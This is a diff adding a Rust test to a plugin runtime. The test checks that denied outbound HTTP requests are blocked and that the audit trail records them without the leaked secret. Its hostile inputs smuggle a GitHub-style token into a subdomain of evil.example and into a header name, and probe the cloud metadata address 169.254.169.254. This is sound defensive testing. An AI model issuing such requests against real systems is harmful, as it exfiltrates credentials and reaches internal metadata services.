@@ -215,6 +215,37 @@ fn a_secret_that_is_removed_while_it_is_renewed_stays_removed() {
 }
 
 #[test]
+fn the_host_of_a_denied_request_carries_nothing_personal_into_the_trail() {
+    let desk = Desk::new();
+    desk.grant_all();
+    let server = Server::start(|_, out| out.text(200, "never"));
+    let context = desk.app.connection_context(&desk.plugin, desk.setup(&server)).unwrap();
+    let caller = Caller { manifest: desk.plugin.manifest(), connection: "main", wall_left_ms: 1_000 };
+    let request = |url: &str, header: &str| trcaa_runtime::ports::HttpRequest {
+        method: "GET",
+        url: url.into(),
+        headers: vec![(header.to_owned(), "x".into())],
+        body: None,
+        timeout_ms: None,
+        response_bytes_max: None,
+        redirects_max: None,
+        auth: trcaa_runtime::ports::HttpAuth::None,
+    };
+    let http = context.ports.http.clone().unwrap();
+    let secret = "ghp_16c7e42f292c6912e7710c838347ae178b4a";
+    for (url, header) in [
+        (format!("https://{secret}.evil.example/"), "x-note".to_owned()),
+        (server.origin(), format!("x-key-{secret}")),
+        ("http://169.254.169.254/".to_owned(), "x-note".to_owned()),
+    ] {
+        assert!(matches!(http.send(&caller, request(&url, &header)), Err(PortError::Denied { .. })), "{url}");
+    }
+    let denied = rows(&desk.app, "plugin_denied");
+    assert_eq!((denied.len(), &denied[2]["host"]), (3, &json!("169.254.169.254")));
+    assert!(!format!("{denied:?}").contains(secret), "{denied:?}");
+}
+
+#[test]
 fn state_is_kept_within_its_quota_and_without_secrets() {
     let desk = Desk::new();
     let server = Server::start(|_, out| out.text(200, "page-7"));
